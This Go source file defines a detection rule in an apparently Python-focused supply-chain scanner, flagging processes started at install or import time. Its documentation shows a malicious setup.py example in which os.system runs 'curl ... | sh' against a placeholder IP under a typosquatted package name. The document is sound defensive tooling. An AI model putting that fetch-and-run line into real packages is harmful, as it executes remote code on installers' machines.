package supplychain

import (
	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
)

// InstallTimeProcess flags programs started when a package is installed or
// imported.
var InstallTimeProcess = &analysis.Rule{
	Code:       "KR812",
	Name:       "install-time-process",
	Summary:    "process started at install or import time",
	Severity:   analysis.SeverityHigh,
	Confidence: analysis.ConfidenceMedium,
	CWE:        []int{506, 78},
	Kinds:      []ast.Kind{ast.KindCall},
	Callees:    tails(nil, processCalls),
	Run:        runInstallProcess,
	Doc: `## What it does
Flags os.system, os.popen, os.exec*/spawn*, subprocess.*, pty.spawn and
similar calls in code that runs when the package is installed or imported
(see install-time-network-access for the scope). Looking up a version or
build flags is common in setup scripts and is not reported: git, hg, svn,
pkg-config, cmake, compilers and similar tools. Downloaders, shells,
schedulers and commands built at run time are high; other programs medium.

## Why is this bad?
A process started by pip or by an import runs with the user's rights before
anyone has looked at it. Malicious packages use it to run curl | sh,
PowerShell download cradles, or a dropped binary.

## Example
~~~python
import os
from setuptools import setup

os.system("curl -s http://203.0.113.7/p.sh | sh")
setup(name="reqeusts")
~~~

## Use instead
Leave programs to the user, or ask the build backend for what it needs:
~~~python
version = subprocess.check_output(["git", "describe", "--tags"], text=True).strip()
~~~

## References
- [pip: build system interface](https://pip.pypa.io/en/stable/reference/build-system/)
- [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
`,
}

func runInstallProcess(p *analysis.Pass, n ast.Node) {
	c := n.(*ast.Call)
	ic := installTime(p)
	if ic.kind == kindOther || !ic.runsAtInstall(c) {
		return
	}
	qn := p.Model.CalleeName(c)
	if !processCalls[qn] {
		return
	}
	prog, sev, ok := processLevel(p.Model, c)
	if !ok {
		return
	}
	what := "a command built at run time"
	if prog != "" {
		what = prog
	}
	report(p, c, sev, 0, qn+" runs "+what+" "+ic.where())
}
